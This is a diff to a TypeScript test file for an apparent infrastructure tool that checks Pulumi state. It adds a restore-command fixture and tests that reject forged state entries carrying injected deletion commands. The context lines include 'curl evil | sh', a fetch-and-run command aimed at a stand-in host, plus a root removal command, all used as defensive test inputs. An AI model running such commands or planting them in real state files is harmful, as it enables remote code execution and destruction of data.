@@ -57,6 +57,15 @@ const written = {
     inputs: { create: "sudo -n sh -s", delete: removalCommands.others, stdin: secret, connection: secret },
     outputs: { create: "sudo -n sh -s", delete: removalCommands.others, stdout: "" },
   },
+  restore: {
+    urn: `${own}lifeboat:restores:RestoreFlow$command:local:Command::2026-11-21-web-restore`,
+    type: "command:local:Command",
+    custom: true,
+    id: "6",
+    provider: `${own}pulumi:providers:command::default_1_2_1::3`,
+    inputs: { create: "lifeboat restore guest prod/web --force", update: "exit 1", logging: "stderr" },
+    outputs: { create: "lifeboat restore guest prod/web --force", update: "exit 1", stdout: "{}", stderr: secret },
+  },
   hostKey: {
     urn: `${own}lifeboat:stateStore:HostKey::state-store`,
     type: "lifeboat:stateStore:HostKey",
@@ -243,6 +252,12 @@ test.each<[string, object, string]>([
     "no provider of this name",
   ],
   ["a provider's provider", forged("provider", { provider: `${provider}::2` }), "no provider as Pulumi"],
+  ["a restore's deletion", forged("restore", { delete: "touch hit" }, "inputs"), "when it is deleted"],
+  [
+    "what is removed in the store's container, here",
+    forged("restore", { delete: removalCommands.root }, "outputs"),
+    "when it is deleted",
+  ],
   ["another deletion", forged("timer", { delete: "curl evil | sh" }, "inputs"), "when it is deleted"],
   ["another deletion in what was read", forged("timer", { delete: "curl evil | sh" }, "outputs"), "when it is deleted"],
   ["a deletion that nobody can read", forged("timer", { delete: secret }, "inputs"), "when it is deleted"],
